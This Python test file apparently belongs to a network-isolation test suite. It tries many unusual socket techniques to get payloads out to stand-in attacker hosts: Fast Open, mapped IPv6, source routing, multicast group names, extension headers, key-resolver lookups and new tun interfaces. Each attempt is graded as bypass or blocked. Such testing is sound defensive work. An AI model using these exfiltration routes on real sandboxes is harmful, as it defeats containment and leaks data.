"""Rows about sockets that are made, set or used in uncommon ways."""

from __future__ import annotations

import array
import contextlib
import ctypes
import fcntl
import socket
import struct
import time

from rows_ip import payload
from tools import WORLD as W
from tools import Verdict, child, drain, family, judged, row, run, tcp, token, tried, udp, worst


@row("N44")
def strange_families() -> Verdict:
    code, text = child("strange", "syscall")
    return "bypass" if text.removeprefix("made:") and code == 0 else "blocked", f"{code} {text}"


@row("N45")
def strange_families_by_ring() -> Verdict:
    code, text = child("strange", "ring")
    return "bypass" if text.removeprefix("made:") and code == 0 else "blocked", f"{code} {text}"


@row("N46")
def strange_families_by_interrupt() -> Verdict:
    found: list[Verdict] = []
    for way in ("interrupt", "socketcall"):
        code, text = child("strange", way)
        found.append(("bypass" if text.removeprefix("made:") and code == 0 else "blocked", f"{way}: {code} {text}"))
    return worst(found)


@row("N47")
def ordinary_sockets_in_strange_ways() -> Verdict:
    found = []
    for way in ("ring", "interrupt", "socketcall"):
        for address in W["attacker"]:
            code, text = child("say", way, address, 4444, token("N47"))
            found.append(judged(text.encode(), f"{way}: {code}"))
    return worst(found)


@row("N48")
def data_in_the_first_packet() -> Verdict:
    def attempt(address: str, port: int) -> bytes:
        with socket.socket(family(address), socket.SOCK_STREAM) as there:
            # Blocking, with the kernel's own time limits: otherwise the call ends before there is a connection.
            there.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("@ll", 2, 0))
            there.sendto(payload("N48"), 0x20000000, (address, port))  # MSG_FASTOPEN
            return drain(there, 2)

    return worst([tried(f"{address}:{port}", attempt, address, port) for address in W["attacker"] for port in (4444, 443, 80)])


@row("N49")
def version_4_in_version_6() -> Verdict:
    found = []
    for address in (f"::ffff:{W['attacker'][0]}", f"::{W['attacker'][0]}"):
        for port in (4444, 443, 53):
            found.append(tried(f"{address}:{port}", tcp, address, port, payload("N49"), 2.0))
        found.append(tried(f"{address} udp", udp, address, 4444, payload("N49"), 1.0))
    return worst(found)


@row("N50")
def tunnel_addresses() -> Verdict:
    found = []
    for address in W["tunnels"]:
        for port in (4444, 443, 22):
            found.append(tried(f"{address}:{port}", tcp, address, port, payload("N50"), 1.5))
        found.append(tried(f"{address} udp", udp, address, 53, payload("N50"), 1.0))
    return worst(found)


@row("N51")
def source_route() -> Verdict:
    """By way of the service that is on the list."""
    found = []
    for kind in (131, 137):
        option = bytes([kind, 11, 4]) + socket.inet_aton(W["service"]) + socket.inet_aton(W["attacker"][0]) + b"\0"

        def attempt(option: bytes = option) -> bytes:
            with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as there:
                there.settimeout(2)
                there.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option)
                there.connect((W["attacker"][0], 8443))
                there.sendall(payload("N51"))
                return drain(there, 1.5)

        found.append(tried(f"option {kind}", attempt))
    return worst(found)


OPTIONS = {
    "mark": (socket.SOL_SOCKET, 36, struct.pack("=i", 0x65)),
    "lo": (socket.SOL_SOCKET, 25, b"lo\0"),
    "eth0": (socket.SOL_SOCKET, 25, b"eth0\0"),
    "transparent": (socket.IPPROTO_IP, 19, struct.pack("=i", 1)),
    "freebind": (socket.IPPROTO_IP, 15, struct.pack("=i", 1)),
    "priority": (socket.SOL_SOCKET, 12, struct.pack("=i", 6)),
}


@row("N52")
def socket_options() -> Verdict:
    found = []
    for name, (level, option, value) in OPTIONS.items():
        for kind, port in ((socket.SOCK_STREAM, 4444), (socket.SOCK_DGRAM, 4444), (socket.SOCK_STREAM, 443), (socket.SOCK_DGRAM, 53)):

            def attempt(level: int = level, option: int = option, value: bytes = value, kind: int = kind, port: int = port) -> bytes:
                with socket.socket(socket.AF_INET, kind) as there:
                    there.settimeout(1.0)
                    there.setsockopt(level, option, value)
                    if option == 15:
                        there.bind((W["cdn"][0], 0))
                    there.connect((W["attacker"][0], port))
                    there.send(payload("N52"))
                    return drain(there, 1.0)

            found.append(tried(f"{name} {port}", attempt))
    return worst(found)


@row("N53")
def local_addresses_by_the_card() -> Verdict:
    """What is meant for this machine is let through; bound to the network card it might go out after all. The wire tells."""
    found = []
    own = run("hostname", "-I")[1].split()
    for address in ("127.0.0.2", "127.0.0.53", "::1", "0.0.0.0", *own):
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):

            def attempt(address: str = address, kind: int = kind) -> bytes:
                with socket.socket(family(address), kind) as there:
                    there.settimeout(0.3)
                    there.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0")
                    if kind == socket.SOCK_STREAM:
                        there.connect((address, 4444))
                    else:
                        there.sendto(payload("N53"), (address, 4444))
                    return b""

            found.append(tried(address, attempt))
    return worst(found)


@row("N54")
def datagrams() -> Verdict:
    def unconnected(address: str) -> bytes:
        with socket.socket(family(address), socket.SOCK_DGRAM) as there:
            there.settimeout(1.0)
            index = struct.pack("=I", socket.if_nametoindex("eth0"))
            if family(address) == socket.AF_INET:
                extra = (socket.IPPROTO_IP, 8, index + bytes(8))
            else:
                extra = (socket.IPPROTO_IPV6, 50, bytes(16) + index)
            there.sendmsg([payload("N54")], [extra], 0, (address, 4444))
            return there.recv(1000)

    def segmented(address: str) -> bytes:
        with socket.socket(family(address), socket.SOCK_DGRAM) as there:
            there.settimeout(1.0)
            there.setsockopt(17, 103, struct.pack("=i", 40))
            there.sendto(payload("N54").ljust(40) * 3, (address, 4444))
            return there.recv(1000)

    def large(address: str) -> bytes:
        return udp(address, 4444, payload("N54") + bytes(8000), 1.0)

    return worst([tried(f"{way.__name__} {address}", way, address) for way in (unconnected, segmented, large) for address in W["attacker"]])


@row("N55")
def broadcast() -> Verdict:
    found = []
    for address in ("255.255.255.255", W["subnet_broadcast"]):
        for port in (67, 4444, 137):

            def attempt(address: str = address, port: int = port) -> bytes:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
                    there.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                    there.settimeout(0.4)
                    there.sendto(payload("N55"), (address, port))
                    with contextlib.suppress(TimeoutError):
                        return there.recv(1000)
                    return b""

            found.append(tried(f"{address}:{port}", attempt))
    return worst(found)


@row("N56")
def groups() -> Verdict:
    """The kernel tells the network which groups somebody has joined, and the group can be any 14 bytes."""
    found = []
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as there:
        group = b"\xff\x05" + payload("N56")[:14].ljust(14, b"x")
        request = group + struct.pack("=I", socket.if_nametoindex("eth0"))
        there.setsockopt(socket.IPPROTO_IPV6, 20, request)
        time.sleep(1.5)
        found.append(("blocked", "joined; the wire tells"))
    return worst(found)


@row("N57")
def extension_headers() -> Verdict:
    found = []
    mark = payload("N57")[:16].ljust(16, b"x")
    for name, option, value in (
        ("routing 0", 57, bytes([0, 2, 0, 1, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, W["attacker"][1])),
        ("routing 2", 57, bytes([0, 2, 2, 1, 0, 0, 0, 0]) + mark),
        ("segments", 57, bytes([0, 2, 4, 0, 0, 0, 0, 0]) + mark),
        ("hop by hop", 54, bytes([0, 2, 0x1E, 16]) + mark + b"\1\2\0\0"),
        ("destination", 59, bytes([0, 2, 0x1E, 16]) + mark + b"\1\2\0\0"),
    ):

        def attempt(option: int = option, value: bytes = value) -> bytes:
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as there:
                there.settimeout(0.7)
                there.setsockopt(socket.IPPROTO_IPV6, option, value)
                there.sendto(mark, (W["attacker"][1], 4444))
                return there.recv(1000)

        found.append(tried(name, attempt))
    return worst(found)


def interface_names() -> list[str]:
    """Which cards there are; somebody who could add one would show it here."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        space = array.array("B", bytes(4096))
        answer = fcntl.ioctl(there.fileno(), 0x8912, struct.pack("iL", 4096, space.buffer_info()[0]))
        size = struct.unpack("iL", answer)[0]
        return [space[at : at + 16].tobytes().partition(b"\0")[0].decode() for at in range(0, size, 40)]


def tun() -> Verdict:
    with open("/dev/net/tun", "r+b", buffering=0) as device:
        fcntl.ioctl(device, 0x400454CA, struct.pack("16sH", b"px0", 0x1001))
        return "bypass", "a card of our own"


@row("N59")
def key_of_a_name() -> Verdict:
    """The kernel asks a program of the machine, outside of the container, for a key that it does not have: for one, to look up a name."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    found: list[Verdict] = []
    for kind in ("dns_resolver", "id_resolver", "cifs.spnego", "rxrpc", "user"):
        name = f"{token('N59')}.{W['evil']}"
        key = libc.syscall(249, kind.encode(), name.encode(), b"x", -3)
        found.append(("bypass" if key >= 0 else "blocked", f"{kind}: {key} errno {ctypes.get_errno()}"))
    return worst(found)


@row("N58")
def own_interfaces() -> Verdict:
    before = interface_names()
    found = []
    for text in ("link add px0 type dummy", f"route add {W['attacker'][0]} dev lo", "addr add 10.9.9.9/32 dev lo"):
        arguments = text.split()
        code, text = run("ip", *arguments)
        found.append(("bypass" if code == 0 else "blocked", f"ip {' '.join(arguments)}: {code} {text}"))
    found.append(tried("tun", tun))
    if interface_names() != before:
        return "bypass", f"{before} became {interface_names()}"
    return worst(found)
